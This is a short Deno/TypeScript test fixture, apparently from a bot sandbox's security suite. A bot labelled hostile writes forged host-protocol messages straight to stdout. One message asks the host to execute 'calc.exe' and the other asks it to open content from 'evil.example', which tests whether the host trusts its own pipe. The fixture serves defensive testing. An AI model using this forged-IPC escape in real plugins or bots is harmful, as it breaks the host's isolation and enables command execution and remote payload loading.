// Hostile: forges the host protocol on stdout, bypassing the bot API: a `send` message carrying
// EXECUTE, and a `setup` message carrying EXECUTE, hoping the host trusts its own pipe.
import { createBot } from "../../../../mod.ts";

const encoder = new TextEncoder();
const write = (text: string) => {
  const bytes = encoder.encode(text + "\n");
  let off = 0;
  while (off < bytes.length) off += Deno.stdout.writeSync(bytes.subarray(off));
};

const bot = createBot();
bot.hear(/^KEY\|go$/, (ctx) => {
  write(JSON.stringify({ t: "send", req: 900_001, line: "EXECUTE|calc.exe" }));
  write(JSON.stringify({ t: "setup", lines: ["OPEN_CONTENT|http://evil.example/evil.mdf"] }));
  ctx.log.info(`VERDICT ${JSON.stringify({ escape: "forged-ipc", outcome: "written" })}`);
});
export default bot;
